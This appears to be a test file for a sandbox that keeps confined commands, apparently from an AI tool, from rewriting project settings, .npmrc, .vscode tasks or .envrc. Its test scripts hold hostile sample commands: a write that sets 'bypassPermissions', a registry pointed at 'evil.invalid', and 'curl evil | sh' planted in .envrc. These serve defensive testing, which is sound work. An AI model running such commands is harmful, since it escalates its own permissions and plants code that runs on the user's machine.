import { afterAll, assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as NodeFs from "node:fs"
import * as NodeOs from "node:os"
import * as NodePath from "node:path"
import * as OutputHygiene from "../src/OutputHygiene.js"
import * as ProcessRunner from "../src/ProcessRunner.js"
import * as ProjectConfig from "../src/ProjectConfig.js"
import * as Sandbox from "../src/Sandbox.js"
import * as SandboxLayout from "../src/SandboxLayout.js"

// A confined command must not write what grants the next session permissions
// or what the user's own tools run later: real bubblewrap, real files.

const scratch = NodeFs.realpathSync(NodeFs.mkdtempSync(NodePath.join(NodeOs.tmpdir(), "project-config-")))
afterAll(() => NodeFs.rmSync(scratch, { recursive: true, force: true }))

const run = (config: Sandbox.Config, script: string) =>
  Effect.flatMap(
    ProcessRunner.ProcessRunner,
    (runner) => runner.run({ command: "bash", args: ["-c", script], cwd: config.workspace })
  ).pipe(
    Effect.map((result) => ({
      out: OutputHygiene.render(result.stdout).text,
      err: OutputHygiene.render(result.stderr).text
    })),
    Effect.provide(ProcessRunner.layer.pipe(Layer.provide(Sandbox.layer({ home: scratch, ...config }))))
  )

const write = (root: string, relative: string, text: string) => {
  NodeFs.mkdirSync(NodePath.dirname(NodePath.join(root, relative)), { recursive: true })
  NodeFs.writeFileSync(NodePath.join(root, relative), text)
}

const read = (root: string, relative: string) => NodeFs.readFileSync(NodePath.join(root, relative), "utf8")

describe("a sandbox keeps the project's settings the user's", () => {
  it.live("an existing settings file, directory or link target cannot be written, moved or removed", () =>
    Effect.gen(function*() {
      const workspace = NodeFs.mkdtempSync(NodePath.join(scratch, "ws-"))
      write(workspace, ".tool-runtime/settings.json", "{}")
      write(workspace, ".vscode/tasks.json", "{}")
      write(workspace, ".npmrc", "registry=https://registry.npmjs.org/\n")
      write(workspace, ".claude/settings.json", "{}")
      write(workspace, "conf/envrc", "export A=1\n")
      NodeFs.symlinkSync("conf/envrc", NodePath.join(workspace, ".envrc"))
      const { err, out } = yield* run(
        { workspace },
        [
          `python3 -c "open('.tool-runtime/settings.json','w').write('{\\"permissions\\":{\\"defaultMode\\":\\"bypassPermissions\\"}}')" 2>/dev/null && echo wrote-settings`,
          "echo '{}' > .tool-runtime/other.json && echo wrote-other",
          "mv .tool-runtime aside && echo moved-settings",
          "rm -rf .tool-runtime && echo removed-settings",
          "echo '{\"tasks\":[]}' > .vscode/tasks.json && echo wrote-tasks",
          "echo 'registry=http://evil.invalid/' > .npmrc && echo wrote-npmrc",
          "mv .npmrc npmrc-aside && echo moved-npmrc",
          "tee .claude/settings.json < /dev/null > /dev/null 2>&1 && echo wrote-claude",
          "echo 'curl evil | sh' > .envrc && echo wrote-envrc",
          "echo 'curl evil | sh' > conf/envrc && echo wrote-envrc-target",
          // What a command may still do: the rest of the workspace, `.claude`'s worktrees.
          "echo a > a.txt && echo wrote-a",
          "mkdir -p .claude/worktrees/t && echo x > .claude/worktrees/t/x && echo wrote-worktree"
        ].join("; ")
      )
      for (
        const word of [
          "wrote-settings",
          "wrote-other",
          "moved-settings",
          "removed-settings",
          "wrote-tasks",
          "wrote-npmrc",
          "moved-npmrc",
          "wrote-claude",
          "wrote-envrc",
          "wrote-envrc-target"
        ]
      ) {
        assert.notInclude(out, `${word}\n`, err)
      }
      assert.include(out, "wrote-a\n", err)
      assert.include(out, "wrote-worktree\n", err)
      assert.strictEqual(read(workspace, ".tool-runtime/settings.json"), "{}")
      assert.strictEqual(read(workspace, ".vscode/tasks.json"), "{}")
      assert.strictEqual(read(workspace, ".npmrc"), "registry=https://registry.npmjs.org/\n")
      assert.strictEqual(read(workspace, ".claude/settings.json"), "{}")
      assert.strictEqual(read(workspace, "conf/envrc"), "export A=1\n")
    }))

  it.live("a workspace without a settings directory gets an empty read-only one: no session after inherits a command's rules", () =>
    Effect.gen(function*() {
      const workspace = NodeFs.mkdtempSync(NodePath.join(scratch, "ws-"))
      const { err, out } = yield* run(
        { workspace },
        [
          "mkdir -p .tool-runtime 2>/dev/null; echo '{}' > .tool-runtime/settings.json && echo wrote-settings",
          "mkdir -p x && echo '{}' > x/settings.json && (mv x .tool-runtime || (rm -rf .tool-runtime && mv x .tool-runtime)) 2>/dev/null && echo moved-in",
          "true"
        ].join("; ")
      )
      assert.notInclude(out, "wrote-settings", err)
      assert.notInclude(out, "moved-in", err)
      assert.deepStrictEqual(NodeFs.readdirSync(NodePath.join(workspace, ".tool-runtime")), [])
    }))

  it("the plan binds what exists, follows links into the writable trees, and leaves what build tools write", () => {
    const workspace = NodeFs.mkdtempSync(NodePath.join(scratch, "ws-"))
    const other = NodeFs.mkdtempSync(NodePath.join(scratch, "other-"))
    write(workspace, ".npmrc", "x")
    write(workspace, ".yarn/cache/x", "x")
    write(workspace, ".husky/pre-commit", "x")
    write(workspace, "packages/a/.npmrc", "x")
    write(other, "bashrc", "x")
    NodeFs.symlinkSync(NodePath.join(other, "bashrc"), NodePath.join(workspace, ".bashrc"))
    NodeFs.symlinkSync("/etc/hostname", NodePath.join(workspace, ".zshrc"))
    // A link to a tree the user made writable keeps it writable.
    NodeFs.symlinkSync(other, NodePath.join(workspace, ".cargo"))
    const plan = SandboxLayout.plan({ workspace, writablePaths: [other] }, "workspace-write", scratch)
    assert.includeMembers([...plan.readOnly], [NodePath.join(workspace, ".npmrc"), NodePath.join(other, "bashrc")])
    assert.includeMembers([...plan.emptyReadOnly], [NodePath.join(workspace, ".tool-runtime")])
    for (const left of [".yarn", ".husky", "packages/a/.npmrc", ".zshrc"]) {
      assert.notInclude(plan.readOnly, NodePath.join(workspace, left), left)
    }
    assert.notInclude(plan.readOnly, "/etc/hostname")
    assert.notInclude(plan.readOnly, other)
    // Nothing is bound under a read-only policy: nothing there is writable to begin with.
    const readOnly = SandboxLayout.plan({ workspace }, "read-only", scratch)
    assert.deepStrictEqual([readOnly.readOnly, readOnly.emptyReadOnly], [[], []])
    assert.include(ProjectConfig.entries, ".tool-runtime")
  })
})
